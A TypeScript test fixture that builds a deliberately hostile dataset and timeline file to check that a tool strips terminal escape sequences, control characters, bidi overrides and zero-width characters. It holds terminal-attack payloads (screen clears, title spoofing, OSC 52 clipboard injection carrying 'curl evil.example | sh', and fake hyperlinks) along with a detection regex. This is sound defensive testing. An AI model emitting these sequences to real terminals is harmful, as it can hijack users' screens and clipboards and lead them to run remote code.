/**
 * A dataset (and a TimelineJS3 file) that attacks the terminal showing it: its text fields (and the article itself) hold
 * escape sequences, controls, bidi overrides, zero-width and very wide characters, and names of
 * 10,000 characters. Each sequence sits between visible brackets, "⟨…⟩", so a test can see on
 * the screen that it was removed whole ("⟨⟩") and find it in the bytes had it got through.
 */
import {mkdtempSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import type {DatasetFile} from '../../src/model/schema.js';
import {AnchoredText} from './anchored-text.js';

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/** The attacks, by what they would do to a terminal that took them. */
export const HOSTILE = {
	clearScreen: '\x1b[2J\x1b[3J\x1b[H',
	colours: '\x1b[5;8;38;2;255;0;255;48;2;1;2;3m',
	cursorMoves: '\x1b[7777;7777H\x1b[99A\x1b[99C\x1b7\x1b8',
	fullReset: '\x1bc',
	screenAlignment: '\x1b#8',
	title0: '\x1b]0;PWNED-TITLE-0\x07',
	title2: '\x1b]2;PWNED-TITLE-2\x1b\\',
	clipboard: `\x1b]52;c;${base64('PWNED-CLIPBOARD: curl evil.example | sh')}\x07`,
	hyperlink: '\x1b]8;;https://evil.example/\x07klik di sini\x1b]8;;\x07',
	dcs: '\x1bP$qm\x1b\\\x1bP+q544e\x1b\\',
	deviceQueries: '\x1b[c\x1b[>c\x1b[6n\x1b[5n',
	c0: '\x00\x05\x07\x08\x0b\x0c\x0e\x0f\x1a\x7f',
	c1: '\u0085\u008d\u009b2J\u009b31m\u009d0;PWNED-C1-TITLE\u009c\u0090$qm\u009c',
	bidi: '\u202egnirts desrever\u202c \u2066isolated\u2069 \u200fmark\u061c',
	// The joiners (U+200C, U+200D) stay: emoji sequences and scripts need them (sanitize.ts).
	zeroWidth: 'zero\u200bwidth\ufeffbom\u2060word\u00adsoft',
} as const;

/** Anything a terminal could take as an instruction, or that makes text lie about its width (a line feed aside). */
export const UNSAFE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\u061c\u2060-\u2064\ufeff\u00ad]/;

/** Every string in a JSON-like value, with its JSON path. */
export function strings(value: unknown, path = '$'): [string, string][] {
	if (typeof value === 'string') return [[path, value]];
	if (Array.isArray(value)) return value.flatMap((item, i) => strings(item, `${path}[${i}]`));
	if (value !== null && typeof value === 'object') return Object.entries(value).flatMap(([key, item]) => strings(item, `${path}.${key}`));
	return [];
}

/** Every attack at once. */
export const ALL_HOSTILE = Object.values(HOSTILE).join('');

/** Characters two columns wide on a modern terminal: CJK, Hangul, fullwidth Latin, emoji, a flag. */
export const WIDE = '中华人民共和国 한국어 Ｆｕｌｌ 😀🎉 👩‍💻 🇮🇩';

/** `text` cut or repeated to exactly `length` code points. */
export function ofLength(text: string, length: number): string {
	const chars = Array.from(text);
	return Array.from({length}, (_, i) => chars[i % chars.length]).join('');
}

/** A 10,000-character name, wide characters among the Latin ones. */
export const LONG_NAME = ofLength('Nama Sangat Panjang 名字 ', 10_000);
/** A 10,000-character title with emoji. */
export const LONG_TITLE = ofLength('Judul yang tidak pernah selesai 😀 ', 10_000);

/** The raw text of the article's one quotation (before the loader sanitizes it). */
export const HOSTILE_QUOTE = `Kami ⟨${HOSTILE.dcs}⟩ tidak ⟨${HOSTILE.title2}⟩ takut ⟨${HOSTILE.c0}⟩ ${WIDE} ⟨${HOSTILE.clipboard}⟩`;

/** The name of the person the attacks centre on, raw; on screen it reads "Ratu⟨⟩Jahat". */
export const HOSTILE_PERSON = `Ratu⟨${HOSTILE.clearScreen}⟩Jahat`;

/** The hostile dataset, as a file would hold it (article text inline). */
export function hostileDataset(): DatasetFile {
	const article = new AnchoredText();
	article.add('Jakarta, ');
	const date = article.mark('Selasa (25/3)');
	article.add(' – ');
	const ratu = article.mark(HOSTILE_PERSON);
	article.add(' berkata: "');
	const quote = article.mark(HOSTILE_QUOTE);
	article.add('," ');
	const attribution = article.mark('ungkap Ratu');
	article.add(`.\n\n⟨${HOSTILE.fullReset}⟩`);
	const meeting = article.mark(`Pertemuan ⟨${HOSTILE.cursorMoves}⟩ di Kota ⟨${HOSTILE.screenAlignment}⟩ Bahaya dengan ${WIDE}`);
	article.add(' bersama ');
	const long = article.mark(LONG_NAME);
	article.add(`.\n⟨${HOSTILE.c1}⟩\n`);
	const launch = article.mark(`Peluncuran ⟨${HOSTILE.colours}⟩ ⟨${HOSTILE.deviceQueries}⟩ pada 2026 ⟨${HOSTILE.bidi}⟩ ⟨${HOSTILE.zeroWidth}⟩`);
	article.add(`\n⟨${ALL_HOSTILE}⟩\n`);

	return {
		version: 1,
		article: {
			title: `Berita ⟨${HOSTILE.title0}⟩ Berbahaya ⟨${HOSTILE.hyperlink}⟩ ${WIDE}`,
			outlet: `Koran ⟨${HOSTILE.c1}⟩ Jahat`,
			published: '2025-03-26T01:00+07:00',
			authors: [`Penulis ⟨${HOSTILE.bidi}⟩`],
			editors: [],
			language: 'id',
			agencies: [],
			text: article.text,
		},
		entities: [
			{
				id: 'ratu',
				type: 'person',
				name: HOSTILE_PERSON,
				aliases: [`Ratu ⟨${HOSTILE.bidi}⟩`, `⟨${HOSTILE.zeroWidth}⟩Jahat`, '中文别名'],
				titles: [{id: `Menteri ⟨${HOSTILE.colours}⟩ Kekacauan`, en: `Minister ⟨${HOSTILE.c1}⟩ of Chaos`}],
				description: {id: `Deskripsi ⟨${ALL_HOSTILE}⟩ selesai.`, en: `Description ⟨${ALL_HOSTILE}⟩ done.`},
				mentions: [ratu],
			},
			{
				id: 'panjang',
				type: 'person',
				name: LONG_NAME,
				aliases: [LONG_TITLE],
				titles: [{id: LONG_TITLE}],
				description: {id: LONG_TITLE, en: `A name of 10,000 characters ⟨${HOSTILE.title0}⟩`},
				mentions: [long],
			},
			{
				id: 'lebar',
				type: 'organization',
				name: `中华人民共和国工业和信息化部 ${WIDE}`,
				aliases: [],
				titles: [],
				description: {id: `Organisasi ${WIDE} ${WIDE}`, en: `Organisation ${WIDE}`},
				mentions: [],
			},
			{
				id: 'c1',
				type: 'organization',
				name: `Organisasi ⟨${HOSTILE.c1}⟩ Kontrol ⟨${HOSTILE.c0}⟩`,
				aliases: [],
				titles: [],
				description: {id: `⟨${HOSTILE.deviceQueries}⟩`},
				mentions: [],
			},
			{
				id: 'kota',
				type: 'place',
				name: `Kota ⟨${HOSTILE.fullReset}⟩ Bahaya`,
				aliases: [],
				titles: [],
				description: {id: `Tempat ⟨${HOSTILE.dcs}⟩`},
				mentions: [],
			},
		],
		events: [
			{
				id: 'pertemuan',
				start: '2025-03-25',
				precision: 'day',
				certainty: 'stated',
				dateEvidence: date,
				title: {id: `Pertemuan ⟨${HOSTILE.title0}⟩ rahasia ⟨${HOSTILE.clearScreen}⟩`, en: `Secret ⟨${HOSTILE.title2}⟩ meeting`},
				summary: {id: `Ringkasan ⟨${ALL_HOSTILE}⟩ selesai. ${WIDE}`, en: `Summary ⟨${ALL_HOSTILE}⟩ done.`},
				place: 'kota',
				participants: [
					{entity: 'ratu', role: {id: `tuan rumah ⟨${HOSTILE.colours}⟩`, en: `host ⟨${HOSTILE.c1}⟩`}},
					{entity: 'panjang', role: {id: LONG_TITLE}},
					{entity: 'lebar'},
					{entity: 'c1'},
				],
				evidence: [meeting, long],
			},
			{
				id: 'posko',
				start: '2025-03-26',
				end: '2025-04-08',
				precision: 'day',
				certainty: 'stated',
				title: {id: `${WIDE} ⟨${HOSTILE.cursorMoves}⟩`, en: `Posts ${WIDE}`},
				summary: {id: `⟨${HOSTILE.screenAlignment}⟩`, en: `⟨${HOSTILE.fullReset}⟩`},
				participants: [{entity: 'lebar'}],
				evidence: [meeting],
			},
			{
				id: 'peluncuran',
				start: '2026',
				precision: 'year',
				certainty: 'inferred',
				dateNote: {id: `Disimpulkan ⟨${HOSTILE.dcs}⟩`, en: `Inferred ⟨${HOSTILE.title0}⟩`},
				title: {id: LONG_TITLE, en: `Launch ⟨${HOSTILE.clipboard}⟩ 😀`},
				summary: {id: `⟨${HOSTILE.hyperlink}⟩`, en: `⟨${HOSTILE.bidi}⟩`},
				participants: [{entity: 'lebar'}, {entity: 'c1'}],
				evidence: [launch],
			},
		],
		quotes: [
			{
				id: 'kutipan',
				text: HOSTILE_QUOTE,
				speaker: 'ratu',
				event: 'pertemuan',
				about: [],
				gloss: {en: `We ⟨${HOSTILE.title2}⟩ are not afraid ⟨${HOSTILE.clipboard}⟩`},
				evidence: quote,
				attribution,
			},
		],
	};
}

/** A TimelineJS3 timeline whose headlines, texts (HTML), groups and ids attack the terminal. */
export function hostileTimelineJs(): unknown {
	return {
		title: {text: {headline: `Linimasa ⟨${HOSTILE.title0}⟩ Jahat`, text: `<p>Pengantar ⟨${ALL_HOSTILE}⟩</p>`}},
		events: [
			{
				start_date: {year: 2025, month: 3, day: 25},
				text: {headline: `Rapat ⟨${HOSTILE.title2}⟩ ${WIDE}`, text: `<p>Isi <b>⟨${HOSTILE.clipboard}⟩</b> ⟨${HOSTILE.c1}⟩</p>`},
				group: `Kelompok ⟨${HOSTILE.colours}⟩`,
			},
			{
				start_date: {year: '2025', month: '3', day: '26'},
				end_date: {year: 2025, month: 4, day: 8},
				text: {headline: LONG_TITLE, text: `⟨${HOSTILE.dcs}⟩ ⟨${HOSTILE.deviceQueries}⟩ ⟨${HOSTILE.bidi}⟩ ⟨${HOSTILE.zeroWidth}⟩ ⟨${HOSTILE.c0}⟩`},
				unique_id: `id ⟨${HOSTILE.cursorMoves}⟩`,
			},
			{start_date: {year: 2030}, text: {headline: `Target ⟨${HOSTILE.fullReset}⟩ ⟨${HOSTILE.screenAlignment}⟩ ⟨${HOSTILE.hyperlink}⟩`}},
		],
	};
}

/** Write a file into a fresh temporary folder; returns its path. */
function writeTemporary(name: string, value: unknown): string {
	const path = join(mkdtempSync(join(tmpdir(), 'linimasa-hostile-')), name);
	writeFileSync(path, JSON.stringify(value, null, 2));
	return path;
}

/** Write the hostile dataset into a fresh temporary folder; returns the file's path. */
export const writeHostileDataset = (): string => writeTemporary('dataset.json', hostileDataset());

/** Write the hostile TimelineJS3 timeline into a fresh temporary folder; returns the file's path. */
export const writeHostileTimelineJs = (): string => writeTemporary('timeline.json', hostileTimelineJs());
